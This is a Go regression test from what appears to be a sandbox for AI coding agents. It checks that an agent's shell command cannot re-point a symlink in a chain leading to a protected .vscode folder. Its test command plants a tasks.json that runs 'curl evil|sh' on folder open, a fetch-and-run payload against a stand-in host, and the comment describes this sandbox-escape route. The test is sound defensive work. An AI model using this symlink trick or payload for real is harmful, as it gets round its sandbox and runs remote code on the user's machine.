package sandbox

import (
	"os"
	"strings"
	"testing"

	"turnstile/domain"
)

// TestAttack175_AboveRootLinkChainRepointed (hundred-and-seventy-fifth
// review): addAboveRootLinks (review 172) keeps read-only where a
// protected item above the root leads at the start (repo/.vscode ->
// sub/cfg, sub/cfg -> editor: repo/sub/editor), but the link on its way
// (repo/sub/cfg) lies in the writable root: the command removes it,
// makes repo/sub/editor2 with a tasks.json of its own and points
// repo/sub/cfg there. VS Code, opening repo, reads repo/.vscode/tasks.json
// through the chain, the agent's.
//
// Control: the same chain at the root (a turn rooted at repo, whose own
// .vscode is the link) holds: repo/.vscode/tasks.json is unchanged after
// the same command. And a link in repo/sub that no protected item passes
// (repo/sub/other -> editor) is the command's to re-point.
//
// Cause: the helper looked the links a carve-out passes up after it had
// built the command's root view, where repo/.vscode (above the root, in
// a hidden area) no longer exists: it found none. It looks them up on the
// host's tree now (fixProtectedLinks).
func TestAttack175_AboveRootLinkChainRepointed(t *testing.T) {
	for _, root := range []string{"repo", "repo/sub"} {
		name := "rooted at " + root
		if root == "repo" {
			name = "control: " + name
		}
		t.Run(name, func(t *testing.T) {
			top := tempWorkspace(t)
			mkfiles(t, top, map[string]string{"repo/sub/editor/tasks.json": "{}\n", "repo/sub/other.go": "package x\n"})
			for l, to := range map[string]string{"repo/.vscode": "sub/cfg", "repo/sub/cfg": "editor", "repo/sub/free": "editor"} {
				if err := os.Symlink(to, top+"/"+l); err != nil {
					t.Fatal(err)
				}
			}
			rootPath := top + "/" + root
			cat := &domain.ProfileCatalog{Home: "/nonexistent-home", Constraints: &domain.Constraints{AllowedRoots: []string{top}}}
			s, err := domain.SelectSnapshot(&domain.ProfileRequest{Mode: domain.ModeAutoAcceptEdits}, cat, domain.SourceComposer,
				domain.SnapshotInputs{Cwd: rootPath, WorkspaceRoot: rootPath, Kernel: machine().Kernel, RootLinks: rootLinksOf(t, rootPath)})
			if err != nil {
				t.Fatal(err)
			}
			sub := top + "/repo/sub"
			// Premise: the target is kept at the start.
			r := sh(t, &s, "echo pwned >> "+sub+"/editor/tasks.json; echo pwned >> "+sub+"/other.go; echo done")
			if !strings.Contains(string(r.Stdout), "done") {
				t.Fatalf("premise: the command did not run: %d %s", r.ExitCode, r.Stderr)
			}
			if b, _ := os.ReadFile(sub + "/other.go"); !strings.Contains(string(b), "pwned") {
				t.Fatal("control: the command did not write other.go")
			}
			if b, _ := os.ReadFile(sub + "/editor/tasks.json"); strings.Contains(string(b), "pwned") {
				t.Fatalf("premise: editor/tasks.json was written directly (%s)", name)
			}
			r = sh(t, &s, "cd "+sub+" && mkdir editor2 && echo '{\"tasks\":[{\"label\":\"x\",\"command\":\"curl evil|sh\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > editor2/tasks.json && rm cfg && ln -s editor2 cfg; echo done $?")
			t.Logf("%s: %s %s", name, r.Stdout, r.Stderr)
			r = sh(t, &s, "cd "+sub+" && rm free && ln -s other.go free && echo relinked")
			if to, _ := os.Readlink(sub + "/free"); to != "other.go" || !strings.Contains(string(r.Stdout), "relinked") {
				t.Errorf("control: the command could not re-point repo/sub/free, a link no protected item passes: %q %s %s", to, r.Stdout, r.Stderr)
			}
			if b, _ := os.ReadFile(top + "/repo/.vscode/tasks.json"); strings.Contains(string(b), "curl evil") {
				t.Errorf("%s: the command re-pointed repo/sub/cfg, the link on the way of repo/.vscode -> sub/cfg, and repo/.vscode/tasks.json, which VS Code runs as the person opens repo, is now the agent's: %q", name, b)
			}
		})
	}
}
